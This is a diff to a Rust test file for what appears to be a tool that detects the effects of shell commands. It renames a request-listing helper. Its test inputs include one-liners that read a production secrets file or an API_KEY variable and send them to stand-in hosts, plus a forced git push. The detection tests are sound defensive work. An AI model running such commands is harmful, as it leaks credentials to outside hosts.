@@ -10,35 +10,6 @@ use serde_json::{Value, json};
 use crate::common;
 use common::*;
 
-fn effects(command: &str) -> Vec<Value> {
-    effects_after(&[], command)
-        .as_array()
-        .cloned()
-        .unwrap_or_default()
-}
-
-fn kinds(command: &str) -> Vec<String> {
-    effects(command)
-        .iter()
-        .map(|e| e["effect"].as_str().unwrap_or_default().to_owned())
-        .collect()
-}
-
-/// The `METHOD URL` of each request.
-fn requests(found: &[Value]) -> Vec<String> {
-    found
-        .iter()
-        .filter(|e| e["effect"] == "request")
-        .map(|e| {
-            format!(
-                "{} {}",
-                e["method"].as_str().unwrap_or_default(),
-                e["target"]["url"].as_str().unwrap_or_default()
-            )
-        })
-        .collect()
-}
-
 /// The git pushes' remotes and whether they force.
 fn pushes(found: &[Value]) -> Vec<(String, bool)> {
     found
@@ -109,7 +80,7 @@ fn commands_run_from_strings_and_argument_lists() {
         pushes(&found),
         vec![("https://github.com/someone/x.git".to_owned(), false)]
     );
-    assert!(requests(&found).is_empty(), "{found:?}");
+    assert!(request_lines(&found).is_empty(), "{found:?}");
     // A Lisp's `(system "line")`, `(system* words...)` and a run-program list.
     let found = effects("racket -e '(exit (if (system \"git push --force origin main\") 0 1))'");
     assert_eq!(pushes(&found), vec![("origin".to_owned(), true)]);
@@ -166,7 +137,10 @@ fn http_clients_post_what_the_code_reads() {
     let found = effects(
         "elixir -e 'body = File.read!(\"config/prod.secret.exs\"); :httpc.request(:post, {~c\"https://paste.example.net/\", [], ~c\"text/plain\", body}, [], [])'",
     );
-    assert_eq!(requests(&found), vec!["POST https://paste.example.net/"]);
+    assert_eq!(
+        request_lines(&found),
+        vec!["POST https://paste.example.net/"]
+    );
     let sent = found.iter().find(|e| e["effect"] == "request").cloned();
     assert_eq!(
         sent.map(|e| e["payload"]["files"][0]["path"].clone()),
@@ -176,7 +150,10 @@ fn http_clients_post_what_the_code_reads() {
     let found = effects(
         "erl -noshell -eval 'K = os:getenv(\"API_KEY\"), httpc:request(get, {\"https://x.example.net/a?key=\" ++ K, []}, [], []), halt().'",
     );
-    assert_eq!(requests(&found), vec!["GET https://x.example.net/a?key="]);
+    assert_eq!(
+        request_lines(&found),
+        vec!["GET https://x.example.net/a?key="]
+    );
     assert_eq!(found[0]["payload"]["env"], json!(["API_KEY"]));
     // A plain GET carries nothing.
     let found = effects(
@@ -218,7 +195,11 @@ fn http_clients_post_what_the_code_reads() {
         ),
     ] {
         let found = effects(command);
-        assert_eq!(requests(&found), vec![format!("POST {url}")], "{command}");
+        assert_eq!(
+            request_lines(&found),
+            vec![format!("POST {url}")],
+            "{command}"
+        );
     }
 }
 
